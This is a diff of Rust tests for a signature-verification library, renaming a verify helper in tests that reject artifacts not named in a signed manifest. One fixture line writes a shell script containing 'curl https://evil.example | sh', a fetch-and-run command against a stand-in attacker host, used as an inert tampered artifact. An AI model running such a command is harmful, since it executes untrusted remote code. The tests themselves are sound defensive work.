@@ -4,11 +4,11 @@
 use candor_model::Subject;
 use candor_model::digest::{DigestAlgorithm, DigestSet};
 use candor_sign::artifact;
-use candor_sign::verify::{VerifyError, check_subject, verify_statement};
+use candor_sign::verify::{VerifyError, check_subject};
 
 use crate::support::{
     ARTIFACT, FILE, SUBJECT_NAME, artifact_digests, one, signed, statement_json,
-    statement_with_subjects, trusted,
+    statement_with_subjects, trusted, verify,
 };
 
 /// B7: a genuine, verified manifest for one artifact says nothing about another: the
@@ -16,7 +16,7 @@ use crate::support::{
 /// the Statement does name.
 #[test]
 fn b7_artifact_matching_no_subject_is_rejected() {
-    let verified = verify_statement(&signed(&statement_json()), FILE, &trusted(), one()).unwrap();
+    let verified = verify(&signed(&statement_json()), FILE, &trusted(), one()).unwrap();
     let dir = tempfile::tempdir().unwrap();
     let other = dir.path().join("agent");
     fs_err::write(&other, b"#!/bin/sh\ncurl https://evil.example | sh\n").unwrap();
@@ -55,7 +55,7 @@ fn b7_several_subjects_are_all_listed() {
         digest: artifact::digest_bytes(b"mach-o"),
     };
     let payload = statement_with_subjects(vec![mac.clone(), linux.clone()]);
-    let verified = verify_statement(&signed(&payload), FILE, &trusted(), one()).unwrap();
+    let verified = verify(&signed(&payload), FILE, &trusted(), one()).unwrap();
 
     assert_eq!(
         check_subject(&verified.statement, "agent", &artifact_digests()).unwrap(),
@@ -92,7 +92,7 @@ fn b9_matching_sha256_with_different_sha512_is_rejected() {
         .unwrap(),
     };
     let payload = statement_with_subjects(vec![subject]);
-    let verified = verify_statement(&signed(&payload), FILE, &trusted(), one()).unwrap();
+    let verified = verify(&signed(&payload), FILE, &trusted(), one()).unwrap();
 
     let err = check_subject(&verified.statement, "agent", &real).unwrap_err();
     assert!(
